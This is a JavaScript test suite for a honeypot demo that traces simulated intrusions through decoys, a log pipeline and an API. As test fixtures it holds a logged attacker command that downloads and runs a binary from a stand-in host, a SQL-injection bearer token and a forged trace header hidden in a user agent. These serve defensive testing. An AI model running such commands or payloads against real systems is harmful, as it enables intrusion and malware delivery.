// The sample system: real processes, real sockets, a real server. What it is an example of must hold: the four bridges
// over which a trace crosses processes that share no call, only files and a database.

import assert from 'node:assert/strict';
import { execFile, spawn } from 'node:child_process';
import { once } from 'node:events';
import { appendFile, copyFile, mkdir, mkdtemp, readFile, readdir, rm, symlink, writeFile } from 'node:fs/promises';
import net from 'node:net';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { after, test } from 'node:test';
import { promisify } from 'node:util';

import { DECKIES, DECOYS, PIPELINE, System, attribute, named, parentName, trace } from './decoys.mjs';
import { PUGMARK, Server, randomHex, until } from './lib.mjs';

const context = (record) => {
  const [, version, traceId, spanId, flags] = record._trace.traceparent.match(/^(..)-(.{32})-(.{16})-(..)$/);
  return { version, traceId, spanId, flags };
};

/** What several tests look at: made by the first that asks, ended after the last. */
const fixtures = [];
function fixture(make) {
  let made;
  return () => {
    made ??= make();
    if (!fixtures.includes(made)) fixtures.push(made);
    return made;
  };
}
after(async () => {
  for (const made of fixtures) {
    const { system, server } = await made;
    await system.stop();
    await server.stop();
  }
});

/** One intrusion: its attacker's address and its trace, as soon as that is whole. */
const anIntrusion = fixture(async () => {
  const server = await Server.start();
  const system = await System.start(server);
  const intrusion = await system.intrusion();
  const found = await trace(server, intrusion.traceId, (t) =>
    ['driver.scenario', 'profiler.process_ip', 'correlation.traversals', 'api.stream_events', 'api.get_attacker_detail']
      .every((name) => named(t, name).length) &&
    // Its two rows may be shown one after the other.
    new Set(named(t, 'sse.emit_logs').flatMap((span) => span.links.map((link) => link.spanId))).size >= 2 &&
    t.spans.every((span) => !span.parentSpanId || t.by.has(span.parentSpanId)));
  return { server, system, intrusion, found };
});

/** A system that has seen every kind of attacker and user. */
const aBusySystem = fixture(async () => {
  const server = await Server.start();
  const system = await System.start(server);
  const driver = system.run('driver', 'driver', '--pause-ms', '20');
  await until('four intrusions', () => (driver.text.match(/^intrusion /gm)?.length >= 4 ? true : undefined), 60_000);
  await system.end('driver');
  return { server, system };
});

test('an intrusion is one trace through every process, with one root and no orphan', async () => {
  const { found } = await anIntrusion();
  const services = [...new Set(found.spans.map((span) => span.service))].sort();
  assert.deepEqual(services, ['api', 'collector', 'correlation', 'decoy', 'driver', 'ingester', 'profiler']);
  assert.deepEqual(found.spans.filter((span) => !span.parentSpanId).map((span) => span.name), ['driver.scenario']);
  assert.equal(found.orphanCount, 0);
  assert.equal(found.by.size, found.spans.length, 'a span came twice');
});

test('an intrusion crosses from the collector into JSON: _trace is the context of collector.event', async () => {
  const { system, intrusion, found } = await anIntrusion();
  const records = (await system.records()).filter((record) => record.attacker_ip === intrusion.ip);
  assert.equal(records.length, 2);
  for (const record of records) {
    const { version, traceId, spanId, flags } = context(record);
    assert.deepEqual([version, traceId, Number(flags) & 1], ['00', intrusion.traceId, 1]);
    const span = found.by.get(spanId);
    assert.equal(span?.name, 'collector.event');
    assert.equal(attribute(span, 'decky'), record.decky);
    assert.equal(parentName(found, span), record.service === 'http' ? 'decoy.http_request' : 'decoy.ssh_session');
  }
});

test('an intrusion crosses from JSON into the ingester: ingester.process_record is the child of what _trace names', async () => {
  const { system, intrusion, found } = await anIntrusion();
  const records = (await system.records()).filter((record) => record.attacker_ip === intrusion.ip);
  for (const record of records) {
    const spans = named(found, 'ingester.process_record').filter((span) => span.parentSpanId === context(record).spanId);
    assert.equal(spans.length, 1);
    assert.equal(spans[0].service, 'ingester');
    assert.equal(attribute(spans[0], 'record.offset'), String(record.at));
  }
});

test('an intrusion crosses into the database: trace_id and span_id are those of ingester.process_record', async () => {
  const { system, intrusion, found } = await anIntrusion();
  const rows = await system.sql(`SELECT * FROM logs WHERE attacker_ip='${intrusion.ip}'`);
  assert.equal(rows.length, 2);
  for (const row of rows) {
    assert.equal(row.trace_id, intrusion.traceId);
    const span = found.by.get(row.span_id);
    assert.equal(span?.name, 'ingester.process_record');
    assert.equal(attribute(span, 'record.offset'), String(row.source_offset));
    assert.ok(!row.fields.includes('_trace'), 'the context does not belong to the record');
  }
});

test('an intrusion crosses from the database to the stream: sse.emit_logs links to the spans that stored the rows', async () => {
  const { system, intrusion, found } = await anIntrusion();
  const rows = await system.sql(`SELECT trace_id, span_id FROM logs WHERE attacker_ip='${intrusion.ip}'`);
  const links = named(found, 'sse.emit_logs').flatMap((span) => span.links.map((link) => `${link.traceId} ${link.spanId}`));
  for (const row of rows) assert.ok(links.includes(`${row.trace_id} ${row.span_id}`), 'a row was shown without a link');
  for (const span of named(found, 'sse.emit_logs')) assert.equal(parentName(found, span), 'api.stream_events');
});

test('an intrusion is worked on by profiler and correlation as children of the rows', async () => {
  const { intrusion, found } = await anIntrusion();
  for (const name of ['profiler.process_ip', 'correlation.traversals']) {
    for (const span of named(found, name)) assert.equal(parentName(found, span), 'ingester.process_record');
  }
  const [process] = named(found, 'profiler.process_ip');
  assert.ok(process.links.some((link) => link.traceId !== intrusion.traceId), 'no link to the round that did it');
  const inside = new Set(found.spans.filter((span) => parentName(found, span) === 'profiler.build_behavior_record').map((span) => span.name));
  assert.deepEqual([...inside].sort(), ['profiler.classify_behavior', 'profiler.detect_tools_from_headers',
    'profiler.phase_sequence', 'profiler.sniffer_rollup', 'profiler.timing_stats']);
});

test('an intrusion has a span db.<method> around each call of the repository', async () => {
  const { found } = await anIntrusion();
  for (const [method, parent] of Object.entries({ add_log: 'ingester.process_record', add_bounty: 'ingester.extract_bounty',
    upsert_attacker: 'profiler.process_ip', upsert_traversal: 'correlation.traversals', get_user: 'api.login',
    get_attacker_detail: 'api.get_attacker_detail' })) {
    assert.ok(named(found, `db.${method}`).some((span) => parentName(found, span) === parent), `db.${method} under ${parent}`);
  }
});

test('an intrusion has children inside their parents where one process called the next and waited', async () => {
  const { found } = await anIntrusion();
  for (const [child, parent] of [['decoy.http_request', 'driver.attack_http'], ['api.login', 'driver.api_request']]) {
    for (const span of named(found, child)) {
      const above = found.by.get(span.parentSpanId);
      assert.equal(above.name, parent);
      assert.ok(BigInt(span.startUnixNano) >= BigInt(above.startUnixNano), `${child} begins before ${parent}`);
    }
  }
  assert.deepEqual(new Set(named(found, 'decoy.http_request').map((span) => span.kind)), new Set(['SERVER']));
  assert.deepEqual(new Set(named(found, 'driver.attack_http').map((span) => span.kind)), new Set(['CLIENT']));
});

test('the sample system shows users what came in', async () => {
  const { system } = await aBusySystem();
  const [status, attackers] = await system.ask('/attackers?limit=100');
  assert.equal(status, 200);
  const robot = attackers.find((attacker) => attacker.summary?.furthest_phase === 'delivery');
  assert.equal(robot.summary.class, 'interactive');
  const [, commands] = await system.ask(`/attackers/${robot.uuid}/commands`);
  assert.deepEqual(commands.map((row) => row.command).sort(), ['id', 'uname -a', 'wget http://198.51.100.7/bins/x86; sh x86']);
  const [, logs] = await system.ask('/logs?limit=1000');
  const [, histogram] = await system.ask('/logs/histogram?interval=3600');
  const [, stats] = await system.ask('/stats');
  assert.equal(stats.logs, logs.length);
  assert.equal(histogram.reduce((sum, bucket) => sum + bucket.count, 0), logs.length);
  const [, found] = await system.ask('/logs?search=gobuster&limit=3');
  assert.deepEqual(found.map((row) => row.fields.user_agent), Array(3).fill('gobuster/3.6'));
  const [, bounties] = await system.ask('/bounty');
  assert.deepEqual(bounties.find((row) => row.type === 'payload').payload, { url: 'http://198.51.100.7/bins/x86' });
  assert.deepEqual(await system.ask('/attackers?ip=127.255.255.254'), [200, []]);
});

test('the sample system refuses what is not allowed, not there, or not well said', async () => {
  const { system } = await aBusySystem();
  const nobody = { headers: {} }, post = (body) => ({ method: 'POST', headers: {}, body });
  for (const [expected, ...call] of [
    [401, '/stats', nobody], [401, '/stream', nobody], [401, '/stats', { headers: { authorization: 'Bearer x\' OR 1=1 --' } }],
    [401, '/auth/login', post('{"username":"admin","password":"admin"}')],
    [401, '/auth/login', post('{"username":"nobody","password":"x"}')],
    [400, '/auth/login', post('')], [400, '/auth/login', post('[{')], [400, '/auth/login', post('{"username":1,"password":2}')],
    [413, '/auth/login', post('x'.repeat(5000))],
    [400, '/logs?limit=many'], [400, '/logs?limit=1001'], [400, '/logs?offset=-1'], [400, '/logs/histogram?interval=0'],
    [404, '/attackers/0123'], [404, '/attackers/'], [404, '/nothing'], [404, '/logs', { method: 'DELETE' }],
  ]) {
    const [status] = await system.ask(...call);
    assert.equal(status, expected, call[0]);
  }
  assert.equal((await system.ask('/health', nobody))[0], 200);
});

test('the sample system begins traces of its own for strangers who say nothing of theirs', async () => {
  const { server, system } = await aBusySystem();
  const rows = await system.sql('SELECT trace_id FROM logs WHERE event_type=\'command\' LIMIT 1');
  const found = await trace(server, rows[0].trace_id, (t) => named(t, 'decoy.telnet_session').length);
  const [session] = named(found, 'decoy.telnet_session');
  assert.equal(session.parentSpanId, '');
  assert.equal(named(found, 'driver.attack_telnet').length, 0);
});

test('the sample system carries a trace through telnet\'s environment option', async () => {
  const { server, system } = await aBusySystem();
  const rows = await system.sql('SELECT trace_id, attacker_ip, count(*) AS n FROM logs WHERE event_type=\'login_attempt\' GROUP BY trace_id HAVING n>1');
  assert.ok(rows.length > 0, 'six logins of one trace');
  const found = await trace(server, rows[0].trace_id, (t) => named(t, 'decoy.telnet_session').length === 6 && named(t, 'driver.brute_force').length);
  for (const span of named(found, 'decoy.telnet_session')) assert.equal(parentName(found, span), 'driver.attack_telnet');
});

test('the sample system does not take a context from inside what an attacker says', async () => {
  const { system } = await aBusySystem();
  const forged = `00-${randomHex(32)}-${randomHex(16)}-01`;
  const ip = '127.9.9.10';
  const before = (await system.records()).length;
  await system.talk('web-01', ip, `GET /"][trace@32473 HTTP/1.1\r\nUser-Agent: x"][trace@32473 traceparent="${forged}"] \\" \x01\xff\r\n\r\n`);
  const rows = await until('the row', async () => {
    const found = await system.sql(`SELECT * FROM logs WHERE attacker_ip='${ip}'`);
    return found.length ? found : undefined;
  });
  assert.equal(rows.length, 1);
  assert.notEqual(rows[0].trace_id, forged.slice(3, 35));
  assert.equal(JSON.parse(rows[0].fields).user_agent, `x"][trace@32473 traceparent="${forged}"] \\" \\x01\\xff`);
  assert.equal((await system.records()).length, before + 1);
});

test('the sample system passes over damaged records and goes on with the next', async () => {
  const { server, system } = await aBusySystem();
  const before = await system.sql('SELECT count(*) AS n FROM logs');
  for (const line of ['', '{', '[]', 'null', '{"_trace":7}', '{"timestamp":1}', '{"_trace":{"traceparent":"00-zz"},"fields":{}}'])
    await appendFile(path.join(system.dir, 'logs.jsonl'), `${line}\n`);
  const ip = '127.9.9.11';
  await system.talk('web-01', ip, 'GET /after HTTP/1.1\r\n\r\n');
  await until('the damaged ones in the log', () => (system.running.get('ingester').text.match(/damaged record/g)?.length >= 7 ? true : undefined));
  const [, traceId, spanId] = system.running.get('ingester').text.match(/damaged record at byte \d+ otel_trace_id=(\w{32}) otel_span_id=(\w{16})/);
  const found = await trace(server, traceId, (t) => t.by.has(spanId));
  assert.deepEqual(found.by.get(spanId).status, { code: 'ERROR', message: 'damaged record' });
  await until('the row behind the damaged ones', async () => (await system.sql(`SELECT 1 FROM logs WHERE attacker_ip='${ip}'`))[0]);
  assert.equal((await system.sql('SELECT count(*) AS n FROM logs'))[0].n, before[0].n + 1);
});

test('work on rows of several traces links to all of them and is the child of none', async () => {
  const server = await Server.start();
  const system = await System.start(server, ['profiler', 'correlation', 'api']);
  const ip = '127.8.8.8', traces = [randomHex(32), randomHex(32)];
  for (const traceId of traces)
    await system.talk('web-01', ip, `GET / HTTP/1.1\r\ntraceparent: 00-${traceId}-${randomHex(16)}-01\r\n\r\n`);
  const rows = await system.rows(2);
  assert.deepEqual(rows.map((row) => row.trace_id).sort(), [...traces].sort());
  system.run('profiler', 'profiler');
  system.run('correlation', 'correlation');
  for (const name of ['profiler.process_ip', 'correlation.traversals']) {
    const traceId = await until(`a trace with ${name}`, async () => {
      const { traces: found } = await server.get(`/api/pugmark/search?operation=${name}`);
      return found[0]?.traceId;
    });
    assert.ok(!traces.includes(traceId), `${name} took sides`);
    const found = await trace(server, traceId, (t) => named(t, name).length);
    const [span] = named(found, name);
    assert.deepEqual(span.links.map((link) => `${link.traceId} ${link.spanId}`).sort(),
      rows.map((row) => `${row.trace_id} ${row.span_id}`).sort());
  }
  await system.stop();
  await server.stop();
});

test('the sample system hands on tracestate, and the decision not to sample', async () => {
  const { server, system } = await aBusySystem();
  const traceId = randomHex(32), ip = '127.9.9.12';
  await system.talk('web-01', ip, `GET / HTTP/1.1\r\ntraceparent: 00-${traceId}-${randomHex(16)}-01\r\ntracestate: a=1\r\nTraceState: b@c=2\r\n\r\n`);
  await system.talk('ssh-01', ip, `SSH-2.0-x traceparent=00-${traceId}-${randomHex(16)}-00 tracestate=a=1,d=4\r\n`);
  const rows = await until('both rows', async () => {
    const found = await system.sql(`SELECT * FROM logs WHERE attacker_ip='${ip}' ORDER BY service`);
    return found.length === 2 ? found : undefined;
  });
  const [http, ssh] = (await system.records()).filter((record) => record.attacker_ip === ip).sort((a, b) => (a.service < b.service ? -1 : 1));
  assert.equal(http._trace.tracestate, 'a=1,b@c=2');
  assert.deepEqual([context(http).traceId, Number(context(http).flags) & 1], [traceId, 1]);
  assert.equal(rows[0].trace_id, traceId);
  assert.equal(ssh._trace.tracestate, 'a=1,d=4');
  assert.deepEqual([context(ssh).traceId, Number(context(ssh).flags) & 1], [traceId, 0]);
  assert.deepEqual([rows[1].trace_id, rows[1].span_id], [null, null]);
  const found = await trace(server, traceId, (t) => named(t, 'ingester.process_record').length && named(t, 'decoy.http_request').length);
  assert.equal(named(found, 'decoy.ssh_session').length, 0);
  assert.deepEqual(named(found, 'decoy.http_request').map((span) => span.traceState), ['a=1,b@c=2']);
});

test('the sample system resumes a stream behind Last-Event-ID, and ends its span when the user goes', async () => {
  const { server, system } = await aBusySystem();
  await system.ask('/stats'); // logs in
  const rows = await system.sql('SELECT * FROM logs ORDER BY id'), seen = rows[rows.length - 6].id;
  const traceId = randomHex(32), spanId = randomHex(16), user = new AbortController();
  const response = await fetch(`http://127.0.0.1:${system.ports.api}/stream`, { signal: user.signal,
    headers: { authorization: `Bearer ${system.token}`, 'last-event-id': String(seen), traceparent: `00-${traceId}-${spanId}-01` } });
  assert.equal(response.headers.get('content-type'), 'text/event-stream');
  let text = '';
  for await (const chunk of response.body) {
    text += Buffer.from(chunk).toString();
    if (/^data: .*\n\n/m.test(text)) break;
  }
  user.abort();
  const [, id, data] = text.match(/^id: (\d+)\nevent: logs\ndata: (.*)\n\n/m);
  const shown = JSON.parse(data);
  assert.deepEqual(shown.map((row) => row.id), rows.slice(-5).map((row) => row.id));
  assert.equal(Number(id), shown[4].id);
  const found = await trace(server, traceId, (t) => named(t, 'api.stream_events').length);
  const [stream] = named(found, 'api.stream_events'), [emit] = named(found, 'sse.emit_logs');
  assert.equal(stream.parentSpanId, spanId);
  assert.equal(attribute(stream, 'events'), '1');
  assert.equal(emit.parentSpanId, stream.spanId);
  assert.deepEqual(emit.links.map((link) => `${link.traceId} ${link.spanId}`).sort(),
    shown.filter((row) => row.trace_id).map((row) => `${row.trace_id} ${row.span_id}`).sort());
});

test('the sample system gives a request back its X-Request-ID, or a new one, and has it on the span', async () => {
  const { server, system } = await aBusySystem();
  for (const [sent, expected] of [['lookup-7', /^lookup-7$/], [undefined, /^[0-9a-f]{32}$/], ['no good', /^[0-9a-f]{32}$/]]) {
    const traceId = randomHex(32);
    const response = await fetch(`http://127.0.0.1:${system.ports.api}/health`, {
      headers: { traceparent: `00-${traceId}-${randomHex(16)}-01`, ...sent ? { 'x-request-id': sent } : {} } });
    assert.match(response.headers.get('x-request-id'), expected);
    const found = await trace(server, traceId, (t) => named(t, 'api.get_health').length);
    assert.equal(attribute(named(found, 'api.get_health')[0], 'request.id'), response.headers.get('x-request-id'));
  }
});

test('without tracing nothing is injected, stored or exported, and the work is done', async () => {
  const server = await Server.start();
  const system = await System.start(null);
  system.env.PUG_OTLP_ENDPOINT = server.endpoints.otlp_http;
  const { traceId, ip } = await system.intrusion();
  assert.equal(traceId, '-');
  assert.ok((await system.records()).every((record) => !('_trace' in record)));
  const rows = await system.sql('SELECT * FROM logs');
  assert.equal(rows.length, 2);
  assert.ok(rows.every((row) => row.trace_id === null && row.span_id === null));
  assert.equal((await system.sql(`SELECT count(*) AS n FROM attackers WHERE ip='${ip}'`))[0].n, 1);
  for (const name of Object.keys(DECKIES))
    assert.ok(!(await readFile(path.join(system.dir, 'containers', `${name}.log`), 'utf8')).includes('[trace@'));
  await system.stop();
  assert.deepEqual(await server.get('/api/pugmark/services'), { services: [] });
  await server.stop();
});

/** Adds a record to logs.jsonl, as a collector would, and waits for its row. */
async function addRecord(system, ip, trace) {
  const record = { timestamp: new Date().toISOString(), decky: 'web-01', service: 'http', event_type: 'request', attacker_ip: ip,
    fields: { path: '/' }, message: 'HTTP request', container: 'web-01', offset: 1e9, ...trace };
  await appendFile(path.join(system.dir, 'logs.jsonl'), `${JSON.stringify(record)}\n`);
  return until(`the row of ${ip}`, async () => (await system.sql(`SELECT * FROM logs WHERE attacker_ip='${ip}'`))[0]);
}

test('a record without _trace is not lost: its row begins a trace of its own', async () => {
  const { server, system } = await aBusySystem();
  for (const [ip, damage] of [['127.9.9.20', {}], ['127.9.9.21', { _trace: { traceparent: `00-${'0'.repeat(32)}-${randomHex(16)}-01` } }]]) {
    const row = await addRecord(system, ip, damage);
    const found = await trace(server, row.trace_id, (t) => t.by.has(row.span_id));
    assert.equal(found.by.get(row.span_id).name, 'ingester.process_record');
    assert.equal(found.by.get(row.span_id).parentSpanId, '');
  }
});

test('a row without trace_id and span_id is shown in the stream, without a link', async () => {
  const { server, system } = await aBusySystem();
  const row = await addRecord(system, '127.9.9.22', { _trace: { traceparent: `00-${randomHex(32)}-${randomHex(16)}-00` } });
  assert.deepEqual([row.trace_id, row.span_id], [null, null]);
  await system.ask('/stats'); // logs in
  const traceId = randomHex(32), user = new AbortController();
  const response = await fetch(`http://127.0.0.1:${system.ports.api}/stream`, { signal: user.signal,
    headers: { authorization: `Bearer ${system.token}`, 'last-event-id': String(row.id - 1), traceparent: `00-${traceId}-${randomHex(16)}-01` } });
  let text = '';
  for await (const chunk of response.body) {
    text += Buffer.from(chunk).toString();
    if (/^data: .*\n\n/m.test(text)) break;
  }
  user.abort();
  assert.ok(text.includes('127.9.9.22'), text);
  const found = await trace(server, traceId, (t) => named(t, 'sse.emit_logs').length);
  const first = named(found, 'sse.emit_logs')[0];
  assert.deepEqual(first.links.filter((link) => link.spanId === '0000000000000000' || !link.spanId), []);
  assert.equal(first.links.length, Number(attribute(first, 'rows')) - 1);
});

test('programs whose server is not there say so once, and do their work', async () => {
  const probe = net.createServer().listen(0, '127.0.0.1');
  await once(probe, 'listening');
  const { port } = probe.address();
  probe.close();
  await once(probe, 'close'); // nobody listens there now
  const system = await System.start({ endpoints: { otlp_http: `http://127.0.0.1:${port}` } });
  const { ip } = await system.intrusion();
  assert.equal((await system.sql(`SELECT count(*) AS n FROM attackers WHERE ip='${ip}'`))[0].n, 1);
  const { text } = system.running.get('collector'), collector = system.running.get('collector');
  await until('the collector to say it', () => (/tracing: .+/.test(collector.text) ? true : undefined));
  assert.equal(text.match(/tracing: /g)?.length ?? 1, 1, text);
  await system.stop();
});

test('programs without libcurl say what is missing, and do their work', async () => {
  const scratch = await mkdtemp(path.join(tmpdir(), 'pugmark-nocurl-'));
  for (const name of ['libcurl.so.4', 'libcurl-gnutls.so.4', 'libcurl.so']) await writeFile(path.join(scratch, name), 'no library');
  const system = await System.start({ endpoints: { otlp_http: 'http://127.0.0.1:9' } }, ['ingester', 'profiler', 'correlation', 'api']);
  await system.end('collector');
  system.env.LD_LIBRARY_PATH = scratch;
  const collector = system.run('collector', 'collector');
  await system.talk('web-01', '127.9.9.30', 'GET / HTTP/1.1\r\n\r\n');
  await until('the record', async () => ((await system.records()).some((record) => record.attacker_ip === '127.9.9.30') ? true : undefined));
  assert.match(collector.text, /libcurl is not installed \(Debian: libcurl4\)/);
  assert.equal(collector.text.match(/libcurl/g).length, collector.text.match(/libcurl is not installed/g).length * 2, collector.text);
  await system.stop();
  await rm(scratch, { recursive: true });
});

test('collector and ingester, killed over and over, neither lose nor repeat a line', async () => {
  const system = await System.start(null, ['profiler', 'correlation', 'api']);
  const lines = 300;
  let sent = 0, talking = true;
  const load = (async () => {
    while (sent < lines) {
      await system.talk('web-01', '127.7.7.7', `GET /${sent++} HTTP/1.1\r\n\r\n`);
    }
    talking = false;
  })();
  let kills = 0;
  while (talking || kills < 6) {
    for (const name of ['ingester', 'collector']) {
      await new Promise((resolve) => { setTimeout(resolve, 5 + Math.random() * 60); });
      await system.end(name, 'SIGKILL');
      system.run(name, name);
      kills++;
    }
  }
  await load;
  await system.rows(lines);
  const records = await system.records();
  assert.deepEqual(records.map((record) => record.fields.path), Array.from({ length: lines }, (_, i) => `/${i}`));
  const rows = await system.sql('SELECT source_offset, fields FROM logs ORDER BY source_offset');
  assert.deepEqual(rows.map((row) => row.source_offset), records.map((record) => record.at));
  assert.deepEqual(rows.map((row) => JSON.parse(row.fields).path), records.map((record) => record.fields.path));
  await system.stop();
});

// The server, four decoys, the engine, the mutator, the pipeline, the API and the driver; the sniffer for whoever may.
const DEMO_PROCESSES = process.getuid() === 0 ? 14 : 13;

const ours = async (scratch) => {
  const found = [];
  for (const pid of (await readdir('/proc')).filter((name) => /^\d+$/.test(name))) {
    const words = await readFile(`/proc/${pid}/cmdline`, 'utf8').catch(() => '');
    if (words.includes(scratch)) found.push(words.replaceAll('\0', ' '));
  }
  return found;
};

test('pugmark demo --once shows a whole trace with the address of the page, and leaves nothing behind', async () => {
  const scratch = await mkdtemp(path.join(tmpdir(), 'pugmark-demo-test-'));
  const { stdout } = await promisify(execFile)(PUGMARK, ['demo', '--once'], { env: { ...process.env, TMPDIR: scratch } });
  assert.match(stdout, /^The page: +http:\/\/127\.0\.0\.1:\d+$/m);
  assert.match(stdout, /\/trace\/[0-9a-f]{32}$/m);
  for (const name of ['driver.scenario', 'decoy.http_request', 'collector.event', 'ingester.process_record', 'db.add_log',
    'profiler.process_ip', 'correlation.traversals', 'api.get_attacker_detail', 'sse.emit_logs'])
    assert.ok(stdout.includes(name), `${name} is not in the waterfall:\n${stdout}`);
  assert.deepEqual(await ours(scratch), []);
  assert.deepEqual(await readdir(scratch), []);
  await rm(scratch, { recursive: true });
});

test('pugmark demo goes on until it is interrupted, and ends what it started', async () => {
  const scratch = await mkdtemp(path.join(tmpdir(), 'pugmark-demo-test-'));
  const child = spawn(PUGMARK, ['demo'], { env: { ...process.env, TMPDIR: scratch }, stdio: ['ignore', 'pipe', 'inherit'] });
  const ended = once(child, 'exit');
  let text = '';
  child.stdout.setEncoding('utf8').on('data', (more) => { text += more; });
  await until('the demo to say how it ends', () => (text.includes('Ctrl-C') ? true : undefined), 30_000);
  const page = text.match(/^The page: +(\S+)$/m)[1];
  assert.equal((await fetch(`${page}/healthz`)).status, 200);
  assert.ok((await ours(scratch)).length >= DEMO_PROCESSES);
  child.kill('SIGINT');
  assert.deepEqual(await ended, [0, null]);
  assert.deepEqual(await ours(scratch), []);
  assert.deepEqual(await readdir(scratch), []);
  await rm(scratch, { recursive: true });
});

test('pugmark demo takes its programs with it when it is killed', async () => {
  const scratch = await mkdtemp(path.join(tmpdir(), 'pugmark-demo-test-'));
  const child = spawn(PUGMARK, ['demo'], { env: { ...process.env, TMPDIR: scratch }, stdio: ['ignore', 'pipe', 'inherit'] });
  const ended = once(child, 'exit');
  await until('the sample system to run', async () => ((await ours(scratch)).length >= DEMO_PROCESSES ? true : undefined), 30_000);
  child.kill('SIGKILL');
  await ended;
  await until('everything to end', async () => ((await ours(scratch)).length === 0 ? true : undefined));
  await rm(scratch, { recursive: true });
});

/** A demo whose programs are these, but for those that a script stands for: [exit status, stdout, stderr]. */
async function brokenDemo(scripts) {
  const scratch = await mkdtemp(path.join(tmpdir(), 'pugmark-demo-test-'));
  const programs = path.join(scratch, 'examples/decoys');
  await mkdir(programs, { recursive: true });
  await copyFile(PUGMARK, path.join(scratch, 'pugmark'));
  for (const name of scripts ? ['decoy', 'engine', 'mutator', 'sniffer', ...PIPELINE, 'driver'] : []) {
    if (name in scripts) await writeFile(path.join(programs, name), `#!/bin/sh\n${scripts[name]}\n`, { mode: 0o755 });
    else await symlink(path.join(DECOYS, name), path.join(programs, name));
  }
  const child = spawn(path.join(scratch, 'pugmark'), ['demo', '--once'], { env: { ...process.env, TMPDIR: scratch } });
  let stdout = '', stderr = '';
  child.stdout.on('data', (text) => { stdout += text; });
  child.stderr.on('data', (text) => { stderr += text; });
  const [status] = await once(child, 'close');
  assert.deepEqual(await ours(scratch), []);
  await rm(scratch, { recursive: true });
  return [status, stdout, stderr];
}

test('pugmark demo says which spans are missing when one program is not traced', async () => {
  const [status, stdout, stderr] = await brokenDemo({ collector: `unset PUG_TRACING; exec '${path.join(DECOYS, 'collector')}' "$@"` });
  assert.equal(status, 1, stderr);
  assert.match(stderr, /is not whole/);
  assert.match(stderr, /^no span collector\.event of collector under decoy\.http_request$/m);
  assert.match(stderr, /^no span ingester\.process_record of ingester under collector\.event$/m);
  assert.doesNotMatch(stderr, /no link from/); /* the trace passes through the collector all the same */
  assert.doesNotMatch(stderr, /api\.login/);
  assert.equal(stdout, '');
});

test('pugmark demo says which program failed, and what it had to say', async () => {
  const [status, , stderr] = await brokenDemo({ ingester: 'echo "no room on the disk" >&2; exit 3' });
  assert.equal(status, 1);
  assert.match(stderr, /ingester ended with status 3/);
  assert.match(stderr, /no room on the disk/);
});

test('pugmark demo says so when the sample system is not installed', async () => {
  const [status, , stderr] = await brokenDemo(null);
  assert.equal(status, 1);
  assert.match(stderr, /sample system is not installed/);
});
